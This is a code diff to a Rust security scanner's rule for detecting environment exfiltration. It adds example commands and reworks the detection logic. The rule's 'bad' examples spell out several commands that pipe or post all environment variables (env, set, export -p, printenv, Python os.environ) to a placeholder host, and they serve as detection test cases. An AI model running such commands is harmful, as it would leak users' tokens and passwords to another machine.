@@ -11,7 +11,7 @@ use crate::effect::path::{Class, Mark, Resolved};
 use crate::effect::{Effect, Language, Object, ProgramId, Props, Site, Verb};
 use crate::finding::{Confidence, Severity};
 use crate::url::Reach as Far;
-use crate::value::{Piece, Value, Why};
+use crate::value::{Piece, Why};
 use std::collections::HashSet;
 
 pub(super) const RULES: &[Rule] = &[
@@ -91,8 +91,21 @@ pub(super) const RULES: &[Rule] = &[
         description: "Everything in the environment, tokens and passwords of other programs with it, goes to another machine. \
                       Send the one value that is needed.",
         remediation: "Send the one value that is needed; change the secrets if they have been sent.",
-        good: &["env | grep PATH", "curl -d \"$USER\" https://api.example/", "env FOO=1 curl https://api.example/"],
-        bad: &["curl -d \"$(env)\" https://e.example/", "env | curl -d @- https://e.example/"],
+        good: &[
+            "env | grep PATH",
+            "curl -d \"$USER\" https://api.example/",
+            "env FOO=1 curl https://api.example/",
+            "env | sort > env.txt",
+            "python3 -c \"import os, subprocess; subprocess.run(['ls'], env=dict(os.environ))\"",
+        ],
+        bad: &[
+            "curl -d \"$(env)\" https://e.example/",
+            "env | curl -d @- https://e.example/",
+            "set | base64 | curl -d @- https://e.example/",
+            "export -p > /tmp/e; curl -T /tmp/e https://e.example/",
+            "curl -d @<(printenv) https://e.example/",
+            "python3 -c \"import os, requests; requests.post('https://e.example', json=dict(os.environ))\"",
+        ],
         check: environment_exfiltration,
     },
     Rule {
@@ -305,27 +318,24 @@ fn bulk_exfiltration(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings)
 }
 
 fn environment_exfiltration(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
-    let shows = |e: &&Effect| matches!(e.object, Object::Stated("environment"));
-    let names: HashSet<&str> = facts.with(&[Verb::Inspect]).filter(shows).map(|e| facts.name(e)).collect();
-    if names.is_empty() {
+    let shows = |e: &Effect| matches!(e.object, Object::Stated("environment"));
+    if !facts.with(&[Verb::Inspect]).any(shows) {
         return;
     }
-    let held = |v: &Value| {
-        v.pieces
-            .iter()
-            .any(|p| matches!(p, Piece::Unknown(u) if matches!(&u.why, Why::Output(n) if names.contains(n.as_str()))))
-    };
     let mut seen = HashSet::new();
     for e in facts.with(&[Verb::Send, Verb::Fetch, Verb::Probe]) {
         if matches!(facts.address(e).map(|a| a.reach()), Some(Far::Loopback)) {
             continue;
         }
-        let Some(p) = facts.process(e).filter(|p| p.argv.iter().chain(p.stdin.as_ref()).any(held)) else { continue };
-        if seen.insert(p.id) {
+        let Some((from, _)) = facts.sources_with(e, &[Verb::Inspect]).find(|(from, _)| shows(from)) else {
+            continue;
+        };
+        if seen.insert(e.process) {
             out.add(
                 rule.about(facts, e)
+                    .also(from)
                     .title(format!("{}: {}", rule.title, e.object.show()))
-                    .evidence("command_pattern", "sends it", p.place)
+                    .evidence("command_pattern", "shows all variables", facts.command_place(from))
                     .evidence("url", "is where it goes", e.place),
             );
         }
